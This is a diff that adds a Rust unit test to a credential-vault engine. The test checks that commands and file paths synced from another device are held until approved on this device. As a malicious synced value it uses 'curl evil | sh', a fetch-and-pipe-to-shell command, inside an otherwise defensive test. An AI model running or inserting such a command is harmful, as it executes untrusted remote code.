@@ -1229,6 +1229,129 @@ mod tests {
             .collect()
     }
 
+    fn with_fields(name: &str, kind: CredentialType, pairs: &[(&str, &str)]) -> NewRecord {
+        NewRecord {
+            fields: pairs
+                .iter()
+                .map(|(k, v)| ((*k).to_owned(), SecretValue::from(*v)))
+                .collect(),
+            kind,
+            ..token(name, "")
+        }
+    }
+
+    fn set_field(e: &mut Engine, name: &str, field: &str, value: &str) {
+        let fields = [(field.to_owned(), SecretValue::from(value))].into();
+        e.set(name, fields, vec![], None, None, None, Timestamp::now())
+            .unwrap();
+    }
+
+    fn approval_code(e: &Engine, name: &str) -> Option<ErrorCode> {
+        e.check_approved(&[name.to_owned()]).err().map(|e| e.code)
+    }
+
+    #[test]
+    fn what_runs_or_writes_is_used_only_once_approved_on_this_device() {
+        let (_tmp, mut a, mut b) = pair();
+        let now = Timestamp::now();
+        let gh = [("refresh_command", "gh auth token"), ("token", "")];
+        let file = [("content", "c"), ("path", "~/.netrc")];
+        a.add(
+            vec![
+                with_fields("gh", CredentialType::Token, &gh),
+                with_fields("netrc", CredentialType::File, &file),
+                token("plain", "p"),
+            ],
+            now,
+        )
+        .unwrap();
+        // Typed on a: approved there.
+        assert_eq!(approval_code(&a, "gh"), None);
+        assert!(a.approvals(&[]).unwrap().is_empty());
+        b.apply(log_of(&a), now).unwrap();
+        // Arrived on b: waits, and never runs; plain records are not held.
+        let refused = b.check_approved(&["gh".to_owned()]).unwrap_err();
+        assert_eq!(refused.code, ErrorCode::NotApproved);
+        assert_eq!(refused.code.exit_code(), 1);
+        assert!(
+            refused.message.contains("vault approve gh"),
+            "{}",
+            refused.message
+        );
+        assert!(
+            !refused.message.contains("gh auth token"),
+            "{}",
+            refused.message
+        );
+        assert_eq!(approval_code(&b, "netrc"), Some(ErrorCode::NotApproved));
+        assert_eq!(approval_code(&b, "plain"), None);
+        let job = b
+            .refresh_job("gh", std::time::Duration::from_secs(60), now)
+            .unwrap();
+        assert!(
+            matches!(&job.plan, crate::refresh::Plan::Broken(why) if why.contains("vault approve gh")),
+            "{:?}",
+            job.plan
+        );
+        let waiting = b.approvals(&[]).unwrap();
+        let shown: Vec<(&str, Vec<&str>)> = waiting
+            .iter()
+            .map(|w| {
+                let fields = w.fields.iter().map(|f| f.field.as_str()).collect();
+                (w.name.as_str(), fields)
+            })
+            .collect();
+        assert_eq!(
+            shown,
+            [("gh", vec!["refresh_command"]), ("netrc", vec!["path"])]
+        );
+        assert_eq!(waiting[0].fields[0].value.expose_secret(), "gh auth token");
+        assert_eq!(waiting[0].device.as_deref(), Some(a.device.as_str()));
+
+        // An approval holds for the revision shown, and for that value only.
+        let rev = waiting[0].revision;
+        assert_eq!(
+            b.approve("gh", rev + 1, now).unwrap_err().code,
+            ErrorCode::Conflict
+        );
+        assert_eq!(b.approve("gh", rev, now).unwrap().len(), 1);
+        assert_eq!(approval_code(&b, "gh"), None);
+        assert!(matches!(
+            b.refresh_job("gh", std::time::Duration::from_secs(60), now)
+                .unwrap()
+                .plan,
+            crate::refresh::Plan::Command(_)
+        ));
+        // Another value from a waits again; b's own change of another field
+        // approves nothing, b's own value of the command does.
+        let before = log_of(&a).len();
+        set_field(&mut a, "gh", "refresh_command", "curl evil | sh");
+        b.apply(log_of(&a).into_iter().skip(before).collect(), now)
+            .unwrap();
+        assert_eq!(approval_code(&b, "gh"), Some(ErrorCode::NotApproved));
+        set_field(&mut b, "gh", "url", "https://api.github.com");
+        assert_eq!(approval_code(&b, "gh"), Some(ErrorCode::NotApproved));
+        set_field(&mut b, "gh", "refresh_command", "gh auth token");
+        assert_eq!(approval_code(&b, "gh"), None);
+
+        // The upgrade: what this device first wrote is approved, what came
+        // from elsewhere waits.
+        for e in [&mut a, &mut b] {
+            let store = e.store_mut().unwrap();
+            store.clear_approvals().unwrap();
+            store
+                .delete_meta(&[crate::engine::approve::APPROVAL_MARK])
+                .unwrap();
+            e.seed_approvals(now).unwrap();
+        }
+        assert_eq!(approval_code(&a, "netrc"), None);
+        assert_eq!(approval_code(&b, "netrc"), Some(ErrorCode::NotApproved));
+        // b's gh holds "gh auth token" again, which a wrote first: it
+        // waits on b. a's holds the command a wrote.
+        assert_eq!(approval_code(&b, "gh"), Some(ErrorCode::NotApproved));
+        assert_eq!(approval_code(&a, "gh"), None);
+    }
+
     #[test]
     fn forged_and_old_format_entries_are_refused_and_never_stop_valid_ones() {
         let (_tmp, mut a, mut b) = pair();
